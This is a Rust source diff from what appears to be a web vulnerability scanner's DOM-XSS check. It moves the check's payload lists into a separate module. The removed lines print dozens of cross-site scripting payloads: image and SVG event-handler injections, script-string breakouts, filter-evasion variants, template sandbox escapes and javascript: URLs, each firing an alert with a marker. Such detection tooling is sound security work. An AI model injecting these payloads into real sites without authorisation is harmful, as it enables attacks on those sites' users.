@@ -7,6 +7,7 @@ use futures_util::FutureExt;
 use futures_util::future::BoxFuture;
 use regex::Regex;
 
+use self::payloads::{HTML, LOADED, SCRIPT, TEMPLATE, URL, payloads};
 use self::source::sign;
 pub(super) use self::source::{Source, bundles, sources, with_all};
 use super::{scripts, seen_before};
@@ -18,6 +19,7 @@ use crate::point::{Place, Point};
 use crate::proof::{Control, Expect, Replay, Step};
 
 mod gleaned;
+mod payloads;
 mod source;
 
 /// See [`About`].
@@ -41,102 +43,6 @@ static ABOUT: About = About {
 const CANARY: &str = "rdbtc4n4ry";
 /// What a dialog says when our code runs.
 const MARKER: &str = "76150431";
-
-// What is put in for each kind of sink; the first is the plainest. `{M}` is the marker.
-const HTML: &[&str] = &[
-    "<img src=x onerror=alert('{M}')>",
-    "\"><img src=x onerror=alert('{M}')>",
-    "'><img src=x onerror=alert('{M}')>",
-    "<svg onload=alert('{M}')>",
-    "</textarea></title></script><img src=x onerror=alert('{M}')>",
-    "<script>alert('{M}')</script>",
-    "<iframe srcdoc=\"<script>parent.alert('{M}')</script>\">",
-    "%3Cimg src=x onerror=alert('{M}')%3E",
-    "\\u003cimg src=x onerror=alert({M})\\u003e",
-    "\\x3cimg src=x onerror=alert({M})\\x3e",
-    "<img src=x onerror=alert`{M}`>",
-    "<img src=x onerror=alert({M})>",
-    "<>\"'<img src=x onerror=alert('{M}')>",
-    "<details open ontoggle=alert('{M}')>",
-    "<input autofocus onfocus=alert('{M}')>",
-    "<iframe src=\"javascript:parent.alert('{M}')\"></iframe>",
-    "<IMG SRC=X ONERROR=&#97;&#108;&#101;&#114;&#116;&#40;{M}&#41;>",
-    "<img src=x oonnerror=alert('{M}')>",
-    "<scr<script>ipt>alert('{M}')</scr</script>ipt><im<img>g src=x oonerrornerror=alert('{M}')>",
-];
-const SCRIPT: &[&str] = &[
-    "alert({M})",
-    "');alert({M});//",
-    "\");alert({M});//",
-    "';alert({M});//",
-    "\";alert({M});//",
-    "'-alert({M})-'",
-    "\"-alert({M})-\"",
-    "1;alert({M})",
-    ")}};alert({M});//",
-    "\\');alert({M});//",
-    "${alert({M})}",
-    "<%alert({M})%>",
-    "\\\"-alert({M})}//",
-    "\"-alert({M})}//",
-    "\\\";alert({M});//",
-    "`-alert({M})-`",
-];
-/// What selects elements in libraries that make elements of markup.
-const SELECTOR: &[&str] = &["<img src=x onerror=alert('{M}')>", "#<img src=x onerror=alert('{M}')>"];
-/// What is loaded as a script.
-const LOADED: &[&str] = &[
-    "data:text/javascript,alert('{M}')",
-    "//r{M}.redoubt-probe.example/",
-    "data:text/javascript,alert('{M}')//.js",
-    "data:,alert('{M}')//",
-    "https://r{M}.redoubt-probe.example/",
-    "@r{M}.redoubt-probe.example/",
-];
-/// What goes on with an address of the site's own from which a script is loaded that calls what it is told to.
-const CALLED: &[&str] = &["alert('{M}')//", "&callback=alert('{M}')//"];
-/// What is fetched to be shown.
-const FETCHED: &[&str] = &[
-    "data:text/html,<img src=x onerror=alert('{M}')>",
-    "//r{M}.redoubt-probe.example/",
-    "https://r{M}.redoubt-probe.example/",
-];
-/// What template libraries that read the finished page compute; the first is for most, the others for old ones.
-const TEMPLATE: &[&str] = &[
-    "{{constructor.constructor('alert(/{M}/)')()}}",
-    "{{_openBlock.constructor('alert(/{M}/)')()}}",
-    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(/{M}/)//');}}",
-    "{{a='constructor';b={};a.sub.call.call(b[a].getOwnPropertyDescriptor(b[a].getPrototypeOf(a.sub),a).value,0,'alert(/{M}/)')()}}",
-];
-const URL: &[&str] = &[
-    "javascript:alert('{M}')",
-    "javascript://%0aalert('{M}')",
-    "data:text/html,<script>alert('{M}')</script>",
-    "\tjavascript:alert('{M}')",
-    "javascript:alert('{M}')//http://https://",
-];
-
-/// What is put in for sinks.
-fn payloads(sinks: &BTreeSet<String>) -> Vec<&'static str> {
-    let mut all = Vec::new();
-    let lists = [
-        ("html", HTML),
-        ("selector", SELECTOR),
-        ("script", SCRIPT),
-        ("loaded", LOADED),
-        ("fetched", FETCHED),
-        ("called", CALLED),
-        ("url", URL),
-        ("attribute", URL),
-        ("attribute", SCRIPT),
-    ];
-    for (sink, list) in lists {
-        if sinks.contains(sink) {
-            all.extend(list.iter().copied().filter(|payload| !all.contains(payload)).collect::<Vec<_>>());
-        }
-    }
-    all
-}
 
 impl Check for DomXss {
     fn about(&self) -> &'static About {
